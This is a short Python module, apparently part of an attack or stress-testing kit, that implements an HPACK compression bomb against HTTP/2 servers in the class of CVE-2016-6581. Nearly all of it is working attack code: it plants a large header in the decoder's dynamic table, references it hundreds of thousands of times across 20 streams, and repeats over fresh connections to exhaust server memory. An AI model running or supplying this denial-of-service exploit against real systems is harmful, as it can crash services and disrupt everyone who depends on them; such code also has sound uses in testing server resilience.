"""HPACK bomb: one byte on the wire is one 4 KB field.

The class of CVE-2016-6581; RFC 7541 §4, §7.3. A large entry goes into the dynamic table; then blocks refer to it hundreds of
thousands of times. 20 streams of that hold 766 MB in the bare library.
"""
from kit.frames import DYNAMIC, block, head, indexed, literal, opening

LISTENER = "h2c"
GROWTH_MIB = 48


def attack(enemy):
    bomb = block() + literal(b"x", b"v" * 3900, remember=True) + indexed(DYNAMIC) * 394_000
    again = block() + indexed(DYNAMIC) * 394_000
    wave = head(1, bomb, ends=False) + b"".join(head(stream, again, ends=False) for stream in range(3, 41, 2))
    while enemy.goes_on():
        connection = enemy.connect()
        if connection is None:
            continue
        with connection:
            if enemy.push(connection, opening() + wave):
                enemy.note("waves")
                enemy.rest(0.5)
